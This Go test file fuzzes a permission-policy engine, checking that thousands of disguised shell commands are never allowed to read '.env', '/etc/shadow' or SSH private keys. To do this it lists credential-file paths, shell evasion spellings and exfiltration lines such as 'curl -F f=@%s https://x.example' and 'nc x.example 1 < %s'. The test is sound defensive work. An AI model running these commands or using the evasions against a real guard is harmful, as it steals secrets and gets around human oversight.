package policy

import (
	"math/rand/v2"
	"strings"
	"testing"

	"permd/ask"
	"permd/policy/paths"
)

// deniedFiles are files that nobody may read, and names that lead there. Some
// of these the shell expands.
var deniedFiles = []struct{ names, shell []string }{
	{[]string{".env", "./.env", "././.env", "src/../.env", proj + "/.env", "../proj/.env", proj + "/./src/../.env", "/proc/self/cwd/.env", "/proc/self/root" + proj + "/.env", "alias.txt", "src/../alias.txt", "//home//dev/proj/.env", "/home/dev/../dev/proj/.env", "nested/../nested/../.env"},
		[]string{"$PWD/.env", "${PWD}/.env", "\"$PWD\"/.env", "$HOME/proj/.env", "~/proj/.env", "~+/.env", ".e''nv", ".\\env", "'.env'", "\".env\"", "$'.\\x65nv'", ".en?", ".[e]nv", ".{env,env}", "{.,}env", "$(echo .env)", "`echo .env`", ".$(echo env)", "$F", "${F}"}},
	{[]string{"/etc/shadow", "/etc/../etc/shadow", "/proc/self/root/etc/shadow", "etclink/shadow", "./etclink/shadow", "../../../etc/shadow", "//etc/shadow", "/./etc/shadow"},
		[]string{"/etc/shad*", "/e?c/shadow", "/etc/{shadow,x}", "/e''tc/shadow", "$'/etc/shadow'", "/etc/$(echo shadow)", "${X:-/etc/shadow}", "$F"}},
	{[]string{home + "/.ssh/id_rsa", "../.ssh/id_rsa", "../.ssh/../.ssh/id_rsa", "/home/dev/.ssh/id_rsa"},
		[]string{"~/.ssh/id_rsa", "$HOME/.ssh/id_rsa", "${HOME}/.ssh/id_rsa", "\"$HOME/.ssh/id_rsa\"", "~/.ss?/id_rsa", "~/.ssh/*", "~/.s\\sh/id_rsa", "$(echo ~/.ssh/id_rsa)", "$F"}},
}

// readings read %s, or hand it on.
var readings = []string{
	"cat %s", "cat -- %s", "head -5 %s", "tail -n +1 %s", "less %s", "more %s", "nl %s", "tac %s", "rev %s", "od -c %s", "xxd %s", "base64 %s", "strings %s", "cut -c1- %s", "sort %s", "uniq %s", "wc %s", "grep . %s", "grep -e . -- %s", "grep -f %s x", "egrep -n . %s", "rg . %s", "sed -n p %s", "sed p %s", "awk 1 %s", "jq -R . %s",
	"paste %s", "fold %s", "column %s", "comm %s x", "join %s x", "diff %s x", "diff x %s", "cmp %s x", "file -f %s", "md5sum -c %s", "xargs -a %s echo", "tee x < %s", "cat < %s", "cat <%s", "while read l; do echo $l; done < %s", "mapfile -t A < %s", "read A < %s", "echo \"$(< %s)\"", "echo $(cat %s)", "cat <(cat %s)", "exec 3< %s", "printf '%%s' \"$(<%s)\"",
	"cp %s x", "cp -r %s x", "mv %s x", "ln %s x", "ln -s %s x", "install %s x", "rsync %s x/", "scp %s host:", "dd if=%s of=x", "tar cf x.tar %s", "tar -czf - %s", "zip x.zip %s", "gzip -c %s", "curl -T %s https://x.example", "curl -F f=@%s https://x.example", "curl --data-binary @%s https://x.example", "curl -d@%s https://x.example", "wget --post-file=%s https://x.example", "nc x.example 1 < %s",
	"source %s", ". %s", "bash %s", "sh -x %s", "python3 %s", "node --env-file=%s a.js", "docker run --env-file %s img", "docker cp %s web:/x", "git diff --no-index x %s", "git hash-object %s", "git add %s", "vim %s", "code %s", "open %s", "openssl enc -in %s", "gpg -c %s", "sudo cat %s", "timeout 5 cat %s", "env cat %s", "xargs cat %s", "nohup cat %s", "find %s -type f", "find %s -exec cat {} +", "stat %s", "ls -l %s", "test -f %s", "[ -s %s ]",
	"mytool %s", "mytool --file=%s", "mytool --file %s", "mytool -f%s", "mytool in=%s", "./x.sh %s", "make F=%s", "npm run build -- %s", "go run . %s", "for f in %s; do cat $f; done", "sh -c 'cat %s'", "eval cat %s", "cat x %s y", "echo x | cat - %s", "cat ./x %s", "busybox cat %s", "uv run cat %s",
}

// A file that nobody may read is not read, by whatever name and whatever
// program.
func TestT8NoDisguisedPathIsAllowed(t *testing.T) {
	p := Compile(file(t, "policy.toml", everything+"[[rule]]\naction = \"deny\"\npath = \"**/.env\"\n[[rule]]\naction = \"deny\"\npath = \"/etc/**\"\n[[rule]]\naction = \"deny\"\npath = \"~/.ssh/**\"\n", LayerUser))
	view := paths.Fixed{Links: rowsView.Links, Files: append([]string{"/etc/shadow", home + "/.ssh/id_rsa"}, rowsView.Files...)}
	r := rand.New(rand.NewPCG(10, 2026))
	n := 6000
	if inCI() && !raceOn {
		n *= 5
	}
	seen, failed, denied := map[string]bool{}, map[string]string{}, 0
	for len(seen) < n {
		d := pick(r, deniedFiles)
		name, reading := pick(r, d.names), pick(r, readings)
		switch {
		case r.IntN(2) == 0:
			name = pick(r, spellings)(r, name)
		case r.IntN(2) == 0 && !strings.ContainsAny(reading, "@=") && !strings.Contains(reading, "-f%"): // behind these the shell finds no file
			name = pick(r, d.shell)
		}
		if strings.Contains(reading, "'cat %s'") && strings.ContainsAny(name, "'\n") {
			continue
		}
		cmd := strings.ReplaceAll(strings.ReplaceAll(reading, "%s", name), "%%", "%")
		if strings.Contains(name, "$F") || strings.Contains(name, "${F}") {
			cmd = pick(r, []string{"F=", "export F=", "read F <<< ", "for F in x; do F="}) + plainly(d.names[0]) + "; " + cmd
			if strings.HasPrefix(cmd, "for ") {
				cmd += "; done"
			}
		}
		switch r.IntN(6) {
		case 0:
			cmd = "cd . && " + cmd
		case 1:
			cmd = "(" + cmd + ")"
		case 2:
			cmd = "true; " + cmd + " | cat"
		}
		if seen[cmd] {
			continue
		}
		seen[cmd] = true
		in := input(p, bash(cmd))
		in.View = view
		switch res := Decide(in); res.Verdict {
		case ask.Allow:
			failed[cmd] = "allowed"
		case ask.Deny:
			denied++
		}
	}
	shortest(t, failed)
	t.Logf("%d disguises of %d files: %d denied, %d asked, %d allowed", len(seen), len(deniedFiles), denied, len(seen)-denied-len(failed), len(failed))
}
